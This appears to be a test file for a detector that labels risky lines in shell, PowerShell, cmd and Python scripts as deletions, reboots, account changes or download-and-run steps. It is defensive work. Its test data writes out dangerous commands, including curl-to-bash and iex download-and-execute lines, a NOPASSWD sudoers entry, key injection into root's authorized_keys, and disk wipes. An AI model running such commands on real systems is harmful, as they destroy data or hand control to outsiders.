import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { riskHints } from '../../../domain/jobs/risk-hints.ts';
import type { RiskHint } from '../../../schema/jobs.ts';
import type { Shell } from '../../../schema/shell.ts';

type Kind = RiskHint['kind'];
const kinds = (shell: Shell, script: string): Kind[] => riskHints(shell, script).map(({ kind }) => kind);

describe('one line, one hint', () => {
  test.each<[Shell, string, Kind]>([
    ['sh', 'rm -rf /opt/openssl-1.1 /usr/local/ssl-1.1', 'deletes'],
    ['bash', 'cd /tmp && sudo -u www rm -f -- "$f"', 'deletes'],
    ['bash', '/bin/rm x', 'deletes'],
    ['bash', 'find /var/log -name "*.gz" -mtime +30 -delete', 'deletes'],
    ['bash', 'find . -name core -exec rm {} +', 'deletes'],
    ['bash', 'ls *.tmp | xargs -n 1 rm', 'deletes'],
    ['bash', 'apt-get purge -y "$p"', 'deletes'],
    ['bash', 'dd if=/dev/zero of=/dev/sda bs=1M', 'deletes'],
    ['bash', 'mkfs.ext4 /dev/sdb1', 'deletes'],
    ['bash', "psql -c 'DROP TABLE users'", 'deletes'],
    ['bash', 'bash -c "cd /x; rm -r y"', 'deletes'],
    ['bash', "ssh backup 'rm -r /srv/old'", 'deletes'],
    ['bash', 'DEBIAN_FRONTEND=noninteractive timeout -k 5 60 apt-get autoremove -y', 'deletes'],
    ['bash', 'for f in a b; do rm "$f"; done', 'deletes'],
    ['bash', 'echo "$(rm -v x)"', 'deletes'],
    ['bash', 'x=`rm -v y`', 'deletes'],
    ['powershell', 'Get-ChildItem C:\\Temp | Remove-Item -Recurse -Force', 'deletes'],
    ['powershell', 'if (Test-Path x) { del x }', 'deletes'],
    ['powershell', '[System.IO.File]::Delete("C:\\x")', 'deletes'],
    ['powershell', 'cmd /c "rd /s /q C:\\old"', 'deletes'],
    ['powershell', 'Get-AppxPackage *xbox* | remove-appxpackage', 'deletes'],
    ['powershell', 'MsiExec.exe /x "{GUID}" /qn', 'deletes'],
    ['cmd', '@DEL /q %TEMP%\\*', 'deletes'],
    ['cmd', 'if exist C:\\old rd /s /q C:\\old', 'deletes'],
    ['cmd', 'for /d %%d in (C:\\Users\\*) do rmdir /s /q "%%d\\tmp"', 'deletes'],
    ['cmd', 'reg delete HKLM\\Software\\X /f', 'deletes'],
    ['python', 'shutil.rmtree("/srv/old")', 'deletes'],
    ['python', 'Path(p).unlink()', 'deletes'],
    ['python', 'subprocess.run(["rm", "-rf", path], check=True)', 'deletes'],

    ['sh', 'reboot', 'reboots'],
    ['bash', 'shutdown -r +5 "Muster: finishing OpenSSL clean-up"', 'reboots'],
    ['bash', '[ -f /run/reboot-required ] && systemctl reboot', 'reboots'],
    ['bash', 'nohup sh -c "sleep 5; init 6" &', 'reboots'],
    ['bash', 'echo b > /proc/sysrq-trigger', 'reboots'],
    ['powershell', 'Restart-Computer -Force', 'reboots'],
    ['powershell', '& "C:\\Windows\\System32\\shutdown.exe" /r /t 0', 'reboots'],
    ['cmd', 'start "" /b shutdown /s', 'reboots'],
    ['python', 'os.system("reboot")', 'reboots'],

    ['bash', 'useradd -m -G sudo eve', 'accounts'],
    ['bash', 'echo "eve:secret" | sudo chpasswd', 'accounts'],
    ['bash', 'echo "eve ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers', 'accounts'],
    ['bash', 'echo "$key" >>/root/.ssh/authorized_keys', 'accounts'],
    ['bash', 'echo x | tee -a /etc/sudoers.d/eve', 'accounts'],
    ['powershell', 'Add-LocalGroupMember -Group Administrators -Member eve', 'accounts'],
    ['powershell', 'net user eve Passw0rd! /add', 'accounts'],
    ['cmd', 'net localgroup administrators eve /add', 'accounts'],

    ['bash', 'curl -fsSL https://x.test/y.sh | bash -s -- -q', 'downloads_and_runs'],
    ['bash', 'wget -qO- https://x.test/y | tee log | sudo -E bash -', 'downloads_and_runs'],
    ['bash', 'bash -c "$(curl -fsSL https://x.test/y)"', 'downloads_and_runs'],
    ['bash', 'eval "$(wget -qO - https://x.test/y)"', 'downloads_and_runs'],
    ['bash', 'source <(curl -s https://x.test/y)', 'downloads_and_runs'],
    ['bash', 'python3 <(curl -s https://x.test/y)', 'downloads_and_runs'],
    ['powershell', 'iex (irm https://x.test/y)', 'downloads_and_runs'],
    ['powershell', 'Invoke-WebRequest https://x.test/y -UseBasicParsing | iex', 'downloads_and_runs'],
    ['powershell', "IEX ((New-Object Net.WebClient).DownloadString('https://x.test/y'))", 'downloads_and_runs'],
    ['cmd', 'powershell -Command "iex (irm https://x.test/y)"', 'downloads_and_runs'],
    ['cmd', 'curl -o %TEMP%\\x.exe https://x.test/x.exe && %TEMP%\\x.exe /S', 'downloads_and_runs'],
    ['cmd', 'certutil -urlcache -f https://x.test/a.exe a.exe & start a.exe', 'downloads_and_runs'],
    ['python', 'exec(urllib.request.urlopen("https://x.test").read())', 'downloads_and_runs'],
  ])('%s: %s → %s', (shell, script, kind) => {
    expect(riskHints(shell, script)).toEqual([{ kind, line: 1 }]);
  });
});

describe('no hint', () => {
  test.each<[Shell, string]>([
    ['bash', 'log "reboot required"'],
    ['bash', 'if [ -f /var/run/reboot-required ]; then echo reboot; fi'],
    ['bash', '# rm -rf / would delete everything'],
    ['bash', 'ls rm shutdown useradd'],
    ['bash', 'systemctl reload nginx'],
    ['bash', 'apt-get install -y nginx'],
    ['bash', 'curl -fsS https://x.test/health | python3 -m json.tool'],
    ['bash', 'curl -o /tmp/list https://x.test/list; grep x /tmp/list'],
    ['bash', 'shutdown -c'],
    ['bash', 'grep root /etc/passwd > /tmp/out 2>&1'],
    ['bash', 'git rm-cached; gitclean'],
    ['powershell', 'Write-Host "Restart-Computer is needed"'],
    ['powershell', '<# Remove-Item\nRestart-Computer #> Get-Process'],
    ['cmd', 'rem del everything'],
    ['cmd', ':: shutdown /r'],
    ['cmd', 'echo delete'],
    ['python', '# os.remove(x)'],
    ['python', 'print("reboot later")'],
    ['python', 'import subprocess\nimport requests\nrequests.get("https://x.test")'],
  ])('%s: %s', (shell, script) => {
    expect(riskHints(shell, script)).toEqual([]);
  });
});

test('the script of the mockup has its hints where the mockup shows them', () => {
  const script = `#!/usr/bin/env bash
# Remove OpenSSL 1.1 leftovers, then reload nginx
set -euo pipefail
log() { printf '%s %s\\n' "$(date -u +%T)" "$*" ; }

pkgs=(libssl1.1 libssl1.1-dev openssl1.1-compat)
for p in "\${pkgs[@]}"; do
if dpkg -s "$p" >/dev/null 2>&1; then
log "removing $p"
apt-get purge -y "$p"
fi
done

# Private builds left behind by the 2022 rollout
rm -rf /opt/openssl-1.1 /usr/local/ssl-1.1
curl -fsSL https://mirror.greywick.example/certscan.sh | bash -s -- -q

nginx -t
systemctl reload nginx
if [ -f /var/run/reboot-required ]; then
log "reboot required"
shutdown -r +5 "Muster: finishing OpenSSL clean-up"
fi
`;
  expect(riskHints('bash', script)).toEqual([
    { kind: 'deletes', line: 10 },
    { kind: 'deletes', line: 15 },
    { kind: 'downloads_and_runs', line: 16 },
    { kind: 'reboots', line: 22 },
  ]);
});

describe('lines', () => {
  test('a command that goes on over several lines is hinted at where it begins', () => {
    expect(riskHints('bash', 'echo 1\n\ncurl -s https://x.test \\\n  -H a |\n  bash\nrm x\r\nreboot')).toEqual([
      { kind: 'downloads_and_runs', line: 3 },
      { kind: 'deletes', line: 6 },
      { kind: 'reboots', line: 7 },
    ]);
  });

  test('a here-document is text, unless a shell reads it', () => {
    expect(riskHints('bash', "cat <<EOF > /tmp/note\nrm -rf / isn't run\nEOF\nreboot")).toEqual([
      { kind: 'reboots', line: 4 },
    ]);
    expect(riskHints('bash', "ssh host 'bash -s' <<'END'\ncd /srv\nrm -rf old\nEND\n")).toEqual([
      { kind: 'deletes', line: 3 },
    ]);
  });

  test('code given to another interpreter is read in that language', () => {
    expect(riskHints('bash', 'python3 - <<PY\nimport os\nos.remove("x")\nPY')).toEqual([{ kind: 'deletes', line: 3 }]);
    expect(riskHints('bash', 'set -e\nsh -c "\nreboot"')).toEqual([{ kind: 'reboots', line: 3 }]);
  });

  test('what was downloaded into a file or a variable is hinted at where it is run', () => {
    const file = 'curl -fsSLo /tmp/setup.sh https://x.test/setup.sh\nsha256sum /tmp/setup.sh\nchmod +x /tmp/setup.sh\n';
    expect(riskHints('bash', file)).toEqual([{ kind: 'downloads_and_runs', line: 3 }]);
    expect(riskHints('bash', 'wget https://x.test/a.deb\ndpkg -i a.deb')).toEqual([
      { kind: 'downloads_and_runs', line: 2 },
    ]);
    expect(riskHints('bash', 'curl -s https://x.test/y > y.sh\ncd /\nbash y.sh')).toEqual([
      { kind: 'downloads_and_runs', line: 3 },
    ]);
    expect(riskHints('powershell', '$s = irm https://x.test/y\n$s.Length\niex $s')).toEqual([
      { kind: 'downloads_and_runs', line: 3 },
    ]);
    expect(
      riskHints('powershell', 'iwr https://x.test/s.exe -OutFile "$env:TEMP\\s.exe"\nStart-Process "$env:TEMP\\s.exe"'),
    ).toEqual([{ kind: 'downloads_and_runs', line: 2 }]);
    expect(riskHints('bash', 'code=$(curl -s https://x.test)\neval "$code"')).toEqual([
      { kind: 'downloads_and_runs', line: 2 },
    ]);
  });
});

test('an apostrophe that nothing closes hides nothing behind it', () => {
  expect(kinds('bash', "echo don't\nrm x\nreboot")).toEqual(['deletes', 'reboots']);
});

test('at most 40 hints of a kind', () => {
  expect(riskHints('bash', 'rm x\n'.repeat(500))).toHaveLength(40);
});

test('whatever the script, every hint names one of its lines, and nothing throws', () => {
  const piece = fc.constantFrom(
    ...["'", '"', '`', '$(', '(', ')', '{', '}', '|', '\n', '\\', '^', '<<E', 'E', '>', '#', '<#', '#>', '$x', '='],
    ...['rm', 'curl', 'bash', '-c', 'iex', 'python3', 'eval', 'find', '-exec', 'sudo', 'if', 'x', ' ', '&', ';'],
  );
  const script = fc
    .array(fc.oneof(piece, fc.string({ maxLength: 3 })), { maxLength: 60 })
    .map((parts) => parts.join(' '));
  fc.assert(
    fc.property(fc.constantFrom<Shell>('sh', 'bash', 'powershell', 'cmd', 'python'), script, (shell, text) => {
      const lines = text.split('\n').length;
      for (const { line } of riskHints(shell, text)) if (line < 1 || line > lines) throw new Error(`line ${line}`);
    }),
    { numRuns: 2000 },
  );
});

/** Work that grows with the square of such a script would take minutes for half of what one may be; all of them take seconds. */
test('what is worst for a reader is read within the time of a test', { timeout: 90_000 }, () => {
  const size = 128 * 1024;
  const hostile = [
    ...["'", '"', '(', '`', '$(', '"$("', '"\\"', '<<A\n', '<#', 'a|', '\n', 'a ', '^', '\\', '"\n$(a)"', 'rm a;'],
    ...[
      'sudo ',
      'if ',
      'bash -c "',
      "eval '",
      'curl a|',
      'x=1 ',
      '-o a ',
      '$x = irm y;',
      'curl -o f;',
      'os.system("a");',
    ],
  ].map((part) => part.repeat(Math.floor(size / part.length)));
  hostile.push(`"${'$('.repeat(size / 2)}"`, `"${'\n$(a)'.repeat(size / 5)}"`, `bash -c "${'a;'.repeat(size / 2)}"`);
  for (const script of hostile)
    for (const shell of ['sh', 'powershell', 'cmd', 'python'] as const) riskHints(shell, script);
});
